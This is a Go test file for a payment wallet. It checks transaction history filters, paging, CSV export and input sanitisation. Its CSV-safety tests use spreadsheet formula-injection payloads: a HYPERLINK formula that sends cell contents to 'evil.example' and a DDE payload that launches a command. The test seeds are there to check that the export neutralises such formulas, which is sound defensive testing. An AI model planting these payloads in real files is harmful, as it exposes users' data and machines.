package wallet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/okpay/okpay"
	"github.com/okpay/okpay/money"
	"github.com/okpay/okpay/sqldb"
	"github.com/okpay/okpay/sqldb/sqldbtest"
	"github.com/okpay/okpay/wallet"
)

// TestHistory: filters by type, status, currency and dates, keyset pages
// that stay stable while new transactions arrive, and object-level
// access.
func TestHistory(t *testing.T) {
	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		h := newHarness(t, db, harnessOpts{})
		alice, bob := h.signUp(), h.signUp()
		h.fund(alice, usd(100_00))
		h.fund(alice, money.New(100_00, "EUR"))
		var outs []*wallet.Txn
		for i := 0; i < 5; i++ {
			h.clock.Advance(time.Minute)
			outs = append(outs, h.pay(alice, bob, usd(int64(i+1)*100)))
		}
		h.clock.Advance(time.Minute)
		mid := h.clock.Now()
		h.pay(alice, bob, money.New(3_00, "EUR"))
		h.pay(bob, alice, usd(50))
		res, err := h.send(alice, h.signUp(), usd(10_00), h.key()) // a new payee: awaiting_auth
		if err != nil {
			t.Fatal(err)
		}
		awaiting := res.Txn

		all, err := h.w.FindTransactions(h.ctx, alice.id, wallet.Filter{})
		if err != nil || len(all.Txns) != 8 || all.HasMore {
			t.Fatalf("all: %v %v", all, err)
		}
		for i := 1; i < len(all.Txns); i++ {
			if all.Txns[i-1].ID <= all.Txns[i].ID {
				t.Fatal("not newest first")
			}
		}
		check := func(name string, f wallet.Filter, want int) {
			t.Helper()
			p, err := h.w.FindTransactions(h.ctx, alice.id, f)
			if err != nil || len(p.Txns) != want {
				t.Fatalf("%s: %d (want %d) %v", name, lenTxns(p), want, err)
			}
		}
		check("out", wallet.Filter{Type: wallet.TypeTransferOut}, 7)
		check("in", wallet.Filter{Type: wallet.TypeTransferIn}, 1)
		check("EUR", wallet.Filter{Currency: "EUR"}, 1)
		check("awaiting", wallet.Filter{Status: wallet.StatusAwaitingAuth}, 1)
		check("completed USD out", wallet.Filter{Type: wallet.TypeTransferOut, Status: wallet.StatusCompleted, Currency: "USD"}, 5)
		check("from", wallet.Filter{From: mid}, 3)
		check("to", wallet.Filter{To: mid}, 5)
		check("between", wallet.Filter{From: outs[1].CreatedAt, To: outs[3].CreatedAt}, 2)

		// Pages of 3 with a new transaction arriving between them.
		var seen []int64
		f := wallet.Filter{Limit: 3}
		for pages := 0; ; pages++ {
			p, err := h.w.FindTransactions(h.ctx, alice.id, f)
			if err != nil {
				t.Fatal(err)
			}
			for _, x := range p.Txns {
				seen = append(seen, x.ID)
			}
			if pages == 0 {
				h.pay(alice, bob, usd(1))
			}
			if !p.HasMore {
				break
			}
			f.Cursor = p.NextCursor
		}
		if len(seen) != 8 {
			t.Fatalf("pages saw %d transactions", len(seen))
		}
		for i := range seen {
			if seen[i] != all.Txns[i].ID {
				t.Fatalf("pages differ from the list at %d", i)
			}
		}

		for _, bad := range []wallet.Filter{{Limit: 101}, {Limit: -1}, {Type: "gift"}, {Status: "done"}, {Currency: "XXXX"}, {Cursor: "acc_x"},
			{From: mid, To: mid}} {
			_, err := h.w.FindTransactions(h.ctx, alice.id, bad)
			wantCode(t, err, okpay.EInvalid)
		}
		// Detail: only one's own.
		if got, err := h.w.FindTransaction(h.ctx, alice.id, awaiting.ID); err != nil || got.Status != wallet.StatusAwaitingAuth || got.ExpiresAt.IsZero() {
			t.Fatalf("detail: %+v %v", got, err)
		}
		_, err = h.w.FindTransaction(h.ctx, bob.id, awaiting.ID)
		wantCode(t, err, okpay.ENotFound)

		// The sweeper fails transfers nobody confirmed.
		h.clock.Advance(16 * time.Minute)
		if n, err := h.w.Sweep(h.ctx); err != nil || n != 1 {
			t.Fatalf("sweep: %d %v", n, err)
		}
		if got, _ := h.w.FindTransaction(h.ctx, alice.id, awaiting.ID); got.Status != wallet.StatusFailed || got.FailureCode != wallet.EAuthExpired {
			t.Fatalf("swept: %+v", got)
		}
	})
}

// TestHistoryIndexed: on SQLite a customer's history is read from the
// per-user table and the queue of transactions not yet moved there
// (IndexTxns); every filter and page gives the same transactions whether
// they wait in the queue, were moved, or are in both places' halves, and
// pages cross from one to the other. (On PostgreSQL IndexTxns moves
// nothing and the same checks hold.)
func TestHistoryIndexed(t *testing.T) {
	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		h := newHarness(t, db, harnessOpts{})
		alice, bob := h.signUp(), h.signUp()
		h.fund(alice, usd(100_00))
		h.fund(alice, money.New(100_00, "EUR"))
		index := func() int64 {
			t.Helper()
			n, err := h.w.IndexTxns(h.ctx)
			if err != nil {
				t.Fatal(err)
			}
			return n
		}
		pay := func(n int) {
			for i := 0; i < n; i++ {
				h.clock.Advance(time.Minute)
				if i%3 == 2 {
					h.pay(alice, bob, money.New(int64(i+1), "EUR"))
				} else {
					h.pay(alice, bob, usd(int64(i+1)))
				}
				if i%4 == 3 {
					h.pay(bob, alice, usd(5))
				}
			}
		}
		filters := []wallet.Filter{{}, {Limit: 1}, {Limit: 3}, {Type: wallet.TypeTransferOut}, {Type: wallet.TypeTransferIn, Limit: 2},
			{Currency: "EUR"}, {Status: wallet.StatusCompleted, Currency: "USD", Limit: 4}}
		// read lists every filter's transactions, page by page.
		read := func() string {
			t.Helper()
			var b strings.Builder
			for _, f := range filters {
				for {
					p, err := h.w.FindTransactions(h.ctx, alice.id, f)
					if err != nil {
						t.Fatal(err)
					}
					for _, x := range p.Txns {
						b.WriteString(x.Ref() + string(x.Type) + " ")
					}
					if !p.HasMore {
						break
					}
					f.Cursor = p.NextCursor
				}
				b.WriteString("| ")
			}
			return b.String()
		}
		// want lists the same from the customer's rows in the table itself.
		want := func() string {
			t.Helper()
			rows, err := db.Read.QueryContext(h.ctx, `SELECT id, type, status, currency FROM wallet_txns WHERE user_id = $1 ORDER BY id DESC`, alice.id)
			if err != nil {
				t.Fatal(err)
			}
			defer rows.Close()
			var all []wallet.Txn
			for rows.Next() {
				var x wallet.Txn
				var cur string
				if err := rows.Scan(&x.ID, &x.Type, &x.Status, &cur); err != nil {
					t.Fatal(err)
				}
				x.Amount.Currency = money.Currency(cur)
				all = append(all, x)
			}
			var b strings.Builder
			for _, f := range filters {
				for _, x := range all {
					if (f.Type == "" || x.Type == f.Type) && (f.Status == "" || x.Status == f.Status) && (f.Currency == "" || x.Amount.Currency == f.Currency) {
						b.WriteString(x.Ref() + string(x.Type) + " ")
					}
				}
				b.WriteString("| ")
			}
			return b.String()
		}
		index() // the deposits
		pay(7)
		queued := read()
		if queued != want() {
			t.Fatalf("all queued:\n%s\nwant\n%s", queued, want())
		}
		moved := index()
		if db.Dialect == sqldb.SQLite && moved != 16 {
			t.Fatalf("moved %d, want 16 (8 transfers, both halves)", moved)
		}
		if got := read(); got != queued {
			t.Fatalf("after the move:\n%s\nbefore\n%s", got, queued)
		}
		if n := index(); n != 0 {
			t.Fatalf("moved %d again", n)
		}
		pay(6) // half moved, half queued
		mixed := read()
		if mixed != want() || mixed == queued {
			t.Fatalf("mixed:\n%s\nwant\n%s", mixed, want())
		}
		index()
		if got := read(); got != mixed {
			t.Fatalf("after the second move:\n%s\nbefore\n%s", got, mixed)
		}
	})
}

func lenTxns(p *wallet.Page) int {
	if p == nil {
		return -1
	}
	return len(p.Txns)
}

// TestCSVExportIsSafe: the export holds every transaction, and no cell a
// spreadsheet would evaluate (a note "=HYPERLINK(...)" comes out as text).
func TestCSVExportIsSafe(t *testing.T) {
	sqldbtest.Each(t, func(t *testing.T, db *sqldb.DB) {
		h := newHarness(t, db, harnessOpts{})
		alice, bob := h.signUp(), h.signUp()
		h.fund(alice, usd(100_00))
		h.pay(alice, bob, usd(1_00))
		notes := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "plain, with \"quotes\""}
		for _, n := range notes {
			if _, err := h.w.Transfer(h.ctx, wallet.TransferInput{UserID: alice.id, Amount: usd(1_00), Payee: bob.email, Note: n, Key: h.key(), Meta: h.meta}); err != nil {
				t.Fatal(err)
			}
		}
		_, err := h.send(alice, bob, usd(95_00), h.key()) // refused: balance
		wantCode(t, err, wallet.EInsufficientFunds)
		var buf bytes.Buffer
		if err := h.w.ExportCSV(h.ctx, &buf, alice.id, wallet.Filter{}, "en"); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 1+1+len(notes)+1 || recs[0][0] != "id" {
			t.Fatalf("%d records: %v", len(recs), recs)
		}
		var gotNotes []string
		for _, r := range recs[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("dangerous cell %q in %v", cell, r)
				}
			}
			gotNotes = append(gotNotes, r[11])
		}
		if !contains(gotNotes, "'"+notes[0]) || !contains(gotNotes, "plain, with \"quotes\"") || !contains(gotNotes, "'-2+3") {
			t.Fatalf("notes: %q", gotNotes)
		}
		if recs[1][4] != "failed" || !strings.Contains(recs[1][12], "not enough money") || recs[1][3] != "out" || recs[1][5] != "95.00" {
			t.Fatalf("the refused transfer: %v", recs[1])
		}
	})
}

func contains(xs []string, x string) bool {
	for _, y := range xs {
		if y == x {
			return true
		}
	}
	return false
}

func TestCSVSafe(t *testing.T) {
	for in, want := range map[string]string{
		"":             "",
		"=1+2":         "'=1+2",
		"+1":           "'+1",
		"-1":           "'-1",
		"@A1":          "'@A1",
		"\tx":          "'\tx",
		"\rx":          "'\rx",
		"12.50":        "12.50",
		"a=b":          "a=b",
		"'=already":    "'=already",
		"付款 =1":        "付款 =1",
		" =leading sp": " =leading sp",
	} {
		if got := wallet.CSVSafe(in); got != want {
			t.Errorf("CSVSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// FuzzCSVSafe: after CSVSafe and a CSV round trip, no cell starts with a
// formula character, and stripping the added quote gives the input back.
func FuzzCSVSafe(f *testing.F) {
	for _, s := range []string{"", "=cmd|' /C calc'!A0", "+", "-", "@", "\t", "\r\n", "a,b", `"`, "'=x", "ok"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			return
		}
		safe := wallet.CSVSafe(s)
		if safe != "" && strings.ContainsRune("=+-@\t\r", rune(safe[0])) {
			t.Fatalf("CSVSafe(%q) = %q", s, safe)
		}
		if safe != s && "'"+s != safe {
			t.Fatalf("CSVSafe(%q) = %q changes more than a prefix", s, safe)
		}
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		w.Write([]string{safe, "x"})
		w.Flush()
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 1 || len(recs[0]) != 2 {
			t.Fatalf("round trip of %q: %v %v", safe, recs, err)
		}
		got := recs[0][0]
		// encoding/csv turns \r\n into \n inside quoted fields.
		if strings.ReplaceAll(got, "\r\n", "\n") != strings.ReplaceAll(safe, "\r\n", "\n") && !strings.Contains(safe, "\r") {
			t.Fatalf("round trip: %q → %q", safe, got)
		}
	})
}

// FuzzCleanNote: an accepted note is valid UTF-8, trimmed, within the
// length, free of control and bidi characters, and accepted unchanged
// again.
func FuzzCleanNote(f *testing.F) {
	for _, s := range []string{"", "lunch", "  spaced  ", "a\nb", "\u202eevil", "好吃的午饭 🍜", "\x00", strings.Repeat("x", 141), "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got, err := wallet.CleanNote(s, 140)
		if err != nil {
			if okpay.ErrorCode(err) != okpay.EInvalid {
				t.Fatalf("CleanNote(%q): %v", s, err)
			}
			return
		}
		if !utf8.ValidString(got) || utf8.RuneCountInString(got) > 140 || got != strings.TrimSpace(got) {
			t.Fatalf("CleanNote(%q) = %q", s, got)
		}
		for _, r := range got {
			if unicode.IsControl(r) || (r >= '\u202a' && r <= '\u202e') || (r >= '\u2066' && r <= '\u2069') {
				t.Fatalf("CleanNote(%q) kept %U", s, r)
			}
		}
		if again, err := wallet.CleanNote(got, 140); err != nil || again != got {
			t.Fatalf("not idempotent: %q → %q, %v", got, again, err)
		}
	})
}

// FuzzParsePayee: any input gives a known kind and a trimmed value, or a
// validation error; never a panic.
func FuzzParsePayee(f *testing.F) {
	for _, s := range [][2]string{{"", "a@b.cn"}, {"", "+86 139 0000 0001"}, {"", "usr_0d4m8y2k3q1ag"}, {"", "wal_0d4m8y2k3q1ag"},
		{"email", "x"}, {"bogus", "a@b"}, {"", "   "}, {"", "bob"}, {"phone", strings.Repeat("9", 300)}} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, kind, value string) {
		k, v, err := wallet.ParsePayee(kind, value)
		if err != nil {
			if okpay.ErrorCode(err) != okpay.EInvalid {
				t.Fatalf("ParsePayee(%q, %q): %v", kind, value, err)
			}
			return
		}
		switch k {
		case wallet.PayeeEmail, wallet.PayeePhone, wallet.PayeeUserID, wallet.PayeeWalletID:
		default:
			t.Fatalf("kind %q", k)
		}
		if v == "" || v != strings.TrimSpace(v) || len(v) > wallet.MaxPayeeLen || (kind != "" && k != kind) {
			t.Fatalf("ParsePayee(%q, %q) = %q, %q", kind, value, k, v)
		}
	})
}
